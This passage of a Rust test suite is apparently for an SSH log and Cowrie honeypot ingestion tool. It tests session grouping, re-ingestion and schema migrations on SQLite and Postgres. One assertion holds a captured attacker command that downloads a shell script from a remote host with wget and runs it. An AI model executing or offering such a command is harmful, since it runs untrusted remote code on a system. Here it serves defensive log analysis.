    ingest_in_pieces(&url, dir.path());
    let pg_ids = |url: &str| -> Vec<i64> {
        let mut c = postgres::Client::connect(url, postgres::NoTls).unwrap();
        c.query("SELECT id FROM events ORDER BY id", &[])
            .unwrap()
            .iter()
            .map(|r| r.get(0))
            .collect()
    };
    let mut s = store::open(&Location::Postgres(url.clone())).unwrap();
    let evs = events_with_ids(&mut s, pg_ids(&url));
    let want = reference_sessions(&evs);
    assert!(want.len() > 1000);
    assert!(
        s.sessions(&Filter::default()).unwrap() == want,
        "the sessions table differs from the grouping"
    );
    // The same database on SQLite has the same sessions.
    let lite = dir.path().join("s.db");
    let dir2 = tempfile::tempdir().unwrap();
    ingest_in_pieces(lite.to_str().unwrap(), dir2.path());
    let mut l = store::open(&Location::Sqlite(lite.clone())).unwrap();
    assert!(l.sessions(&Filter::default()).unwrap() == want);
    drop(s);
    // Migration from schema 1.
    let mut c = postgres::Client::connect(&url, postgres::NoTls).unwrap();
    c.batch_execute("DROP TABLE sessions, session_keys; ALTER TABLE events DROP COLUMN session, DROP COLUMN password, DROP COLUMN command; ALTER TABLE inputs DROP COLUMN keys_to, DROP COLUMN cursor, DROP COLUMN head_hash, DROP COLUMN head_len; DROP INDEX events_logins; UPDATE sshmap_schema SET version = 1;")
        .unwrap();
    let mut s = store::open(&Location::Postgres(url.clone())).unwrap();
    assert!(
        s.sessions(&Filter::default()).unwrap() == want,
        "migrated sessions differ"
    );
    assert_keys_complete(&Db::Pg(&url));
}

/// A dense log of short connections (three lines each, 100 lines a second
/// from Nov 22 10:00:00) with three more: pid 4000000 logs every 100 s from
/// the start (a long-open connection), pid 4000002 once at 200 s and pid
/// 4000003 once at 5 s. Then what a re-run reads after it: each of the three
/// again at 700 s (within 600 s of its last line for the first two, not for
/// the third), a line dated back at 1 s for the connection of lines 99–101
/// (appended out of order, as `scripts/bench-reingest.sh` does), and filler.
fn reingest_logs() -> (String, String) {
    let at = |t: f64| {
        let s = t as u64;
        format!("Nov 22 10:{:02}:{:02}", s / 60, s % 60)
    };
    let fail = |t: f64, pid: u32, ip: &str| {
        format!(
            "{} web1 sshd[{pid}]: Failed password for root from {ip} port 4242 ssh2\n",
            at(t)
        )
    };
    let mut first = String::new();
    for i in 0..60_000u32 {
        let t = f64::from(i) / 100.0;
        let pid = 10_000 + i / 3;
        let ip = format!("198.51.{}.{}", 100 + (i / 3) % 3, 1 + (i / 3) % 250);
        first += &match i % 3 {
            0 => format!("{} web1 sshd[{pid}]: Invalid user u{i} from {ip} port 5000\n", at(t)),
            1 => format!(
                "{} web1 sshd[{pid}]: Failed password for invalid user u{} from {ip} port 5000 ssh2\n",
                at(t),
                i - 1
            ),
            _ => format!(
                "{} web1 sshd[{pid}]: Connection closed by invalid user u{} {ip} port 5000 [preauth]\n",
                at(t),
                i - 2
            ),
        };
        if i % 10_000 == 0 {
            first += &fail(t, 4_000_000, "192.0.2.70");
        }
        if i == 500 {
            first += &fail(t, 4_000_003, "192.0.2.73");
        }
        if i == 20_000 {
            first += &fail(t, 4_000_002, "192.0.2.72");
        }
    }
    let mut more = String::new();
    more += &fail(700.0, 4_000_000, "192.0.2.70");
    more += &fail(700.0, 4_000_002, "192.0.2.72");
    more += &fail(700.0, 4_000_003, "192.0.2.73");
    more += &fail(1.0, 10_033, "198.51.100.34");
    for i in 0..30u32 {
        more += &fail(701.0, 5_000_000 + i, "192.0.2.99");
    }
    (first, more)
}

/// A re-run after an append continues the stored sessions its lines belong
/// to, whether they were open across the re-run's boundary (last seen before
/// the point it re-reads from), long open (begun far before it), or dated
/// earlier than the stored lines; a connection idle longer than the gap starts
/// a new session. The sessions table equals the grouping of all stored events.
fn reingest_continues_stored_sessions(db: &str, ids: &dyn Fn() -> Vec<i64>, dir: &Path) {
    let (first, more) = reingest_logs();
    let log = dir.join("auth.log");
    write(&log, &first);
    let go = || {
        ok(run(&[
            "ingest",
            "-q",
            "--tz",
            "UTC",
            "--db",
            db,
            log.to_str().unwrap(),
        ]))
    };
    go();
    append(&log, &more);
    go();
    let loc = if db.starts_with("postgres") {
        Location::Postgres(db.to_string())
    } else {
        Location::Sqlite(db.into())
    };
    let mut s = store::open(&loc).unwrap();
    // The connection of pid 4000002 was last seen where the re-run does not read again.
    let cp = &s.checkpoints().unwrap()[0];
    assert!(
        cp.keep_line > 20_010 && cp.keep_line < 60_000,
        "{}",
        cp.keep_line
    );
    assert!(cp.warm_line > 20_010, "{}", cp.warm_line);
    assert_reingested_sessions(&mut s, ids);
    assert_keys_complete(&db_of(db));
}

fn db_of(db: &str) -> Db<'_> {
    if db.starts_with("postgres") {
        Db::Pg(db)
    } else {
        Db::Lite(Path::new(db))
    }
}

/// The sessions after `reingest_logs` (both parts) went in: those of the
/// connections its second part continues, and all of them equal to the
/// grouping of the stored events (none twice).
fn assert_reingested_sessions(s: &mut Box<dyn Store>, ids: &dyn Fn() -> Vec<i64>) {
    let evs = events_with_ids(s, ids());
    let want = reference_sessions(&evs);
    let got = s.sessions(&Filter::default()).unwrap();
    let of = |pid: i64| -> Vec<&Session> { got.iter().filter(|x| x.pid == Some(pid)).collect() };
    let base = of(4_000_000)[0].start;
    let long = of(4_000_000);
    assert_eq!(long.len(), 1, "{long:?}");
    assert_eq!((long[0].end - long[0].start, long[0].attempts), (700, 7));
    let across = of(4_000_002);
    assert_eq!(across.len(), 1, "{across:?}");
    assert_eq!((across[0].start - base, across[0].end - base), (200, 700));
    assert_eq!(across[0].attempts, 2);
    let idle = of(4_000_003);
    assert_eq!(idle.len(), 2, "past the gap: {idle:?}");
    let back = of(10_033);
    assert_eq!(back.len(), 1, "{back:?}");
    assert_eq!(
        back[0].attempts, 2,
        "the line dated back joins its connection"
    );
    assert_eq!(got.len(), want.len());
    assert!(
        got == want,
        "the sessions table differs from the grouping of the stored events"
    );
}

#[test]
fn reingest_continues_stored_sessions_sqlite() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    reingest_continues_stored_sessions(db.to_str().unwrap(), &|| sqlite_ids(&db), dir.path());
}

#[test]
fn reingest_continues_stored_sessions_postgres() {
    let Some(url) = pg_url() else { return };
    let _guard = crate::store::PG_LOCK
        .lock()
        .unwrap_or_else(|e| e.into_inner());
    drop(pg_fresh(&url));
    let dir = tempfile::tempdir().unwrap();
    let ids = || -> Vec<i64> {
        let mut c = postgres::Client::connect(&url, postgres::NoTls).unwrap();
        c.query("SELECT id FROM events ORDER BY id", &[])
            .unwrap()
            .iter()
            .map(|r| r.get(0))
            .collect()
    };
    reingest_continues_stored_sessions(&url, &ids, dir.path());
}

/// How the first run of [`reingest_after_a_stopped_run`] leaves the store.
#[derive(Clone, Copy, Debug)]
enum Left {
    /// Killed after its last commit, before it wrote its session keys.
    Stopped,
    /// Complete, but on schema 7: the `sessions_key` index, no key table.
    Schema7,
}

/// A first run reads the first half of `reingest_logs` and stops before it
/// writes its session keys (or its store is from before the key table); then
/// the rest of the log is appended, with the lines dated back, and ingested:
/// the stored sessions are continued from what the key table lacks (or from
/// what the migration filled it with), none is made twice, and the key table
/// is complete afterwards.
fn reingest_after_a_stopped_run(db: &str, ids: &dyn Fn() -> Vec<i64>, dir: &Path, left: Left) {
    let (first, more) = reingest_logs();
    let (a, b) = split(&first, 30_000);
    let log = dir.join("auth.log");
    let go = || {
        ok(run(&[
            "ingest",
            "-q",
            "--tz",
            "UTC",
            "--db",
            db,
            log.to_str().unwrap(),
        ]))
    };
    write(&log, &a);
    go();
    let d = db_of(db);
    // A run of a new input fills its key table at its end, not before.
    assert_keys_complete(&d);
    match left {
        Left::Stopped => {
            d.exec("DELETE FROM session_keys; UPDATE inputs SET keys_to = 0;");
            assert!(sessions_unkeyed(&d) > 10_000);
        }
        Left::Schema7 => d.to_schema_7(),
    }
    append(&log, &b);
    append(&log, &more);
    go();
    let loc = if db.starts_with("postgres") {
        Location::Postgres(db.to_string())
    } else {
        Location::Sqlite(db.into())
    };
    let mut s = store::open(&loc).unwrap();
    assert_reingested_sessions(&mut s, ids);
    assert_keys_complete(&d);
    drop(s);
    if let Left::Stopped = left {
        // Killed after its last commit: the next run, although the input is
        // up to date (it commits nothing), fills the key table.
        d.exec("DELETE FROM session_keys; UPDATE inputs SET keys_to = 0;");
        let version = d.int("SELECT max(version) FROM inputs");
        go();
        assert_eq!(
            d.int("SELECT max(version) FROM inputs"),
            version,
            "nothing committed"
        );
        assert_keys_complete(&d);
    }
}

#[test]
fn reingest_after_a_run_stopped_before_its_session_keys_sqlite() {
    for left in [Left::Stopped, Left::Schema7] {
        let dir = tempfile::tempdir().unwrap();
        let db = dir.path().join("s.db");
        reingest_after_a_stopped_run(db.to_str().unwrap(), &|| sqlite_ids(&db), dir.path(), left);
    }
}

#[test]
fn reingest_after_a_run_stopped_before_its_session_keys_postgres() {
    let Some(url) = pg_url() else { return };
    let _guard = crate::store::PG_LOCK
        .lock()
        .unwrap_or_else(|e| e.into_inner());
    let ids = || -> Vec<i64> {
        let mut c = postgres::Client::connect(&url, postgres::NoTls).unwrap();
        c.query("SELECT id FROM events ORDER BY id", &[])
            .unwrap()
            .iter()
            .map(|r| r.get(0))
            .collect()
    };
    for left in [Left::Stopped, Left::Schema7] {
        drop(pg_fresh(&url));
        let dir = tempfile::tempdir().unwrap();
        reingest_after_a_stopped_run(&url, &ids, dir.path(), left);
    }
}

/// The fixture's Cowrie passwords and commands, as `(line, password, command)`.
fn cowrie_details(evs: &[Event]) -> Vec<(u64, Option<String>, Option<String>)> {
    evs.iter()
        .filter(|e| e.honeypot.is_some())
        .map(|e| {
            (
                e.src.line,
                e.password().map(str::to_string),
                e.command().map(str::to_string),
            )
        })
        .collect()
}

/// Issue 14: a honeypot's passwords and commands are stored, and a store of
/// the schema before them (version 6) is migrated: its events read back
/// without them, new ones with them.
#[test]
fn sqlite_keeps_cowrie_passwords_and_commands_and_migrates_an_older_store() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    let log = fixture("cowrie/cowrie.json");
    ingest(&db, &[&log]);
    let evs = events(&db);
    let details = cowrie_details(&evs);
    assert_eq!(details.iter().filter(|d| d.2.is_some()).count(), 6);
    assert_eq!(details.iter().filter(|d| d.1.is_some()).count(), 12);
    assert!(details
        .iter()
        .any(|d| d.2.as_deref() == Some("cd /tmp; wget http://203.0.113.50/x.sh; sh x.sh")));
    // Back to schema 6: no such columns.
    let c = rusqlite::Connection::open(&db).unwrap();
    c.execute_batch("ALTER TABLE events DROP COLUMN password; ALTER TABLE events DROP COLUMN command; DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; ALTER TABLE inputs DROP COLUMN sessions_until; CREATE INDEX sessions_last_seen ON sessions(last_seen); CREATE INDEX sessions_key ON sessions(pid, host, id); PRAGMA user_version = 6;")
        .unwrap();
    drop(c);
    let old = events(&db);
    assert_eq!(old.len(), evs.len());
    assert!(cowrie_details(&old).is_empty());
    // A new input after the migration keeps its details.
    let copy = dir.path().join("cowrie-2.json");
    fs::write(
        &copy,
        fs::read_to_string(&log)
            .unwrap()
            .replace("\"vm\"", "\"vm2\""),
    )
    .unwrap();
    ingest(&db, &[&copy]);
    let all = events(&db);
    let new: Vec<Event> = all
        .into_iter()
        .filter(|e| e.host.as_deref() == Some("vm2"))
        .collect();
    assert_eq!(cowrie_details(&new), details);
}

#[test]
fn postgres_keeps_cowrie_passwords_and_commands_like_sqlite() {
    let Some(url) = pg_url() else { return };
    let _guard = crate::store::PG_LOCK
        .lock()
        .unwrap_or_else(|e| e.into_inner());
    drop(pg_fresh(&url));
    let dir = tempfile::tempdir().unwrap();
    let lite = dir.path().join("s.db");
    let log = fixture("cowrie/cowrie.json");
    for db in [lite.to_str().unwrap(), url.as_str()] {
        ok(run(&["ingest", "--db", db, log.to_str().unwrap()]));
    }
    let mut s1 = store::open(&Location::Sqlite(lite.clone())).unwrap();
    let mut s2 = store::open(&Location::Postgres(url.clone())).unwrap();
    let scan = |s: &mut Box<dyn Store>| {
        let mut v = Vec::new();
        s.scan(&Filter::default(), &mut |e| v.push(e)).unwrap();
        v
    };
    let (a, b) = (scan(&mut s1), scan(&mut s2));
    assert_eq!(a, b);
    assert_eq!(cowrie_details(&b).len(), 18);
    // Migrated from the schema before the columns (version 6).
    drop(s2);
    let mut c = postgres::Client::connect(&url, postgres::NoTls).unwrap();
    c.batch_execute("ALTER TABLE events DROP COLUMN password, DROP COLUMN command; DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; CREATE INDEX sessions_key ON sessions (pid, host, id); UPDATE sshmap_schema SET version = 6;")
        .unwrap();
    let mut s2 = store::open(&Location::Postgres(url.clone())).unwrap();
    let migrated = scan(&mut s2);
    assert_eq!(migrated.len(), a.len());
    assert!(cowrie_details(&migrated).is_empty());
}
